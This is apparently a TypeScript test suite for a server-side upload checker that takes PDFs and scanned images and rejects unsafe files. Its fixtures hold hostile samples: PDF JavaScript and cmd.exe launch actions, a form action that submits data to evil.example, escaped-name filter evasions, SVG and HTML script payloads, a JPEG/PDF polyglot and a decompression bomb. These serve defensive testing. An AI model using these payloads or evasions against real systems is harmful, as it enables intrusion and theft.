import sharp from "sharp";
import { describe, expect, it } from "vitest";
import { LARGEST_PAPER_BYTES, lookAtPaper } from "~/platform/private-files/look-at-paper.server";
import { makePdf, packed } from "~tests/support/papers";

const scan = (format: "jpeg" | "png") =>
  sharp({ create: { width: 600, height: 800, channels: 3, background: "#faf7f2" } })
    .toFormat(format)
    .toBuffer();

const refusalOf = async (bytes: Buffer) => {
  const seen = await lookAtPaper(bytes);
  return seen.ok ? `taken as ${seen.value.contentType}` : seen.refusal;
};

const jpeg = await scan("jpeg");
const png = await scan("png");

/** Packed objects that only an LZW reader can unpack, with something between that filter and the name of what they are. */
const hiddenFilter = (between: string) =>
  packed("5 0 <<>>").replace("<< /Type", `<< /Filter /LZWDecode ${between} /Type`);

describe("a paper", () => {
  it.each([
    ["a PDF", makePdf(), "application/pdf"],
    ["a PDF with packed objects", makePdf({ objects: [packed("5 0 << /Type /Font >>")] }), "application/pdf"],
    ["a PDF that packs only an array", makePdf({ objects: [packed("5 0 [0 0 595 842]")] }), "application/pdf"],
    ["a PDF with a link and a first view", makePdf({ root: "/OpenAction [3 0 R /Fit]" }), "application/pdf"],
    ["a scanned JPEG", jpeg, "image/jpeg"],
    ["a scanned PNG", png, "image/png"],
  ])("may be %s", async (_what, bytes, contentType) => {
    expect(await lookAtPaper(bytes)).toEqual({ ok: true, value: { contentType } });
  });

  const script = "<< /S /JavaScript /JS (app.alert) >>";

  it.each<[string, Buffer, string]>([
    ["nothing", Buffer.alloc(0), "empty"],
    ["more than may be sent", Buffer.concat([makePdf(), Buffer.alloc(LARGEST_PAPER_BYTES)]), "too-large"],
    ["a text that is called PDF", Buffer.from("registration paper"), "not-a-paper"],
    ["a program", Buffer.from("MZ\u0090\u0000\u0003", "latin1"), "not-a-paper"],
    ["a page of the web", Buffer.from("<!doctype html><script>alert(1)</script>"), "not-a-paper"],
    [
      "a drawing with a script",
      Buffer.from("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
      "not-a-paper",
    ],
    ["an archive", Buffer.from("PK\u0003\u0004", "latin1"), "not-a-paper"],
    ["a GIF", Buffer.from("GIF89a\u0001\u0000\u0001\u0000", "latin1"), "not-a-paper"],
    ["a JPEG that ends in the middle", jpeg.subarray(0, Math.floor(jpeg.length / 2)), "truncated"],
    ["a PNG that ends in the middle", png.subarray(0, Math.floor(png.length / 2)), "truncated"],
    ["the beginning of a JPEG and nothing behind it", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), "truncated"],
    ["a PNG in name only", Buffer.concat([png.subarray(0, 8), Buffer.from("not a picture at all")]), "not-a-paper"],
    ["a JPEG that is a PDF as well", polyglot(jpeg), "not-a-paper"],
    ["a PDF that ends in the middle", makePdf().subarray(0, 200), "truncated"],
    ["a PDF with bytes behind its end", Buffer.concat([makePdf(), Buffer.alloc(2_000, "A")]), "truncated"],
    ["a PDF with a script", makePdf({ root: "/OpenAction 4 0 R", objects: [script] }), "active-content"],
    [
      "a PDF with a script that is spelt otherwise",
      makePdf({ objects: [script.replace("/Java", "/J#61va")] }),
      "active-content",
    ],
    ["a PDF with a script among packed objects", makePdf({ objects: [packed(`5 0 ${script}`)] }), "active-content"],
    [
      "a PDF with a script in what looks like a stream",
      makePdf({ objects: [`(stream\n) ${script} (endstream)`] }),
      "active-content",
    ],
    ["a PDF with a script behind a comment", makePdf({ before: "%stream\n", objects: [script] }), "active-content"],
    ["a PDF that starts a program", makePdf({ objects: ["<< /S /Launch /F (cmd.exe) >>"] }), "active-content"],
    ["a PDF that carries another file", makePdf({ root: "/Names << /EmbeddedFiles 4 0 R >>" }), "active-content"],
    ["a PDF with an XFA form", makePdf({ root: "/AcroForm << /XFA 4 0 R >>" }), "active-content"],
    [
      "a PDF that sends data",
      makePdf({ objects: ["<< /S /SubmitForm /F (https://evil.example) >>"] }),
      "active-content",
    ],
    ["a PDF with a film", makePdf({ objects: ["<< /Subtype /RichMedia >>"] }), "active-content"],
    ["a PDF with a password", makePdf({ objects: ["<< /Encrypt 9 0 R >>"] }), "password"],
    [
      "a PDF whose packed objects nobody can unpack",
      makePdf({ objects: [packed("5 0 <<>>", { filter: "/LZWDecode" })] }),
      "active-content",
    ],
    [
      "a PDF whose packing is described elsewhere",
      makePdf({ objects: [packed("5 0 <<>>", { filter: "9 0 R" })] }),
      "active-content",
    ],
    [
      "a PDF that packs with a predictor",
      makePdf({ objects: [packed("5 0 <<>>", { parms: "/DecodeParms << /Predictor 12 >>" })] }),
      "active-content",
    ],
    [
      "a PDF that hides that objects are packed",
      makePdf({ objects: [packed("5 0 <<>>").replace("/ObjStm", "/Obj#53tm")] }),
      "active-content",
    ],
    [
      "a PDF with a filter behind a text that looks like an object's end",
      makePdf({ objects: [hiddenFilter("/X (endstream\nendobj\n5 0 obj << ) ")] }),
      "active-content",
    ],
    [
      "a PDF with a filter behind a comment that looks like an object's begin",
      makePdf({ objects: [hiddenFilter("% 5 0 obj <<\n")] }),
      "active-content",
    ],
    [
      "a PDF with a filter behind a text that looks like a whole object",
      makePdf({
        objects: [packed("5 0 <<>>", { filter: "/LZWDecode /X (\n5 0 obj << >>\nstream\n1 0 <<>>\nendstream)" })],
      }),
      "active-content",
    ],
    [
      "a PDF whose filter's name is written with an escape",
      makePdf({ objects: [packed("5 0 <<>>").replace("/Filter", "/F#69lter")] }),
      "active-content",
    ],
    ["a PDF that is a bomb", makePdf({ objects: [packed("A".repeat(70_000_000))] }), "active-content"],
  ])("may not be %s", async (_what, bytes, refusal) => {
    expect(await refusalOf(bytes)).toBe(refusal);
  });

  it("may not have more pixels than a page has", async () => {
    const giant = await sharp({ create: { width: 12_000, height: 9_000, channels: 3, background: "#fff" } })
      .png({ compressionLevel: 9 })
      .toBuffer();
    expect(await refusalOf(giant)).toBe("too-many-pixels");
  });

  it("is judged in time, however often it says that a stream begins", async () => {
    const nasty = Buffer.concat([
      makePdf({ before: `${"stream\n".repeat(400_000)}${"<< /Type /ObjStm ".repeat(200_000)}` }),
    ]);
    expect(await refusalOf(nasty)).toBe("active-content");
  });
});

/** A PDF's beginning where readers of PDF look for it, in a comment of a JPEG. */
function polyglot(picture: Buffer): Buffer {
  const comment = Buffer.from("%PDF-1.7\n1 0 obj <<>> endobj");
  const length = Buffer.alloc(2);
  length.writeUInt16BE(comment.length + 2);
  return Buffer.concat([picture.subarray(0, 2), Buffer.from([0xff, 0xfe]), length, comment, picture.subarray(2)]);
}
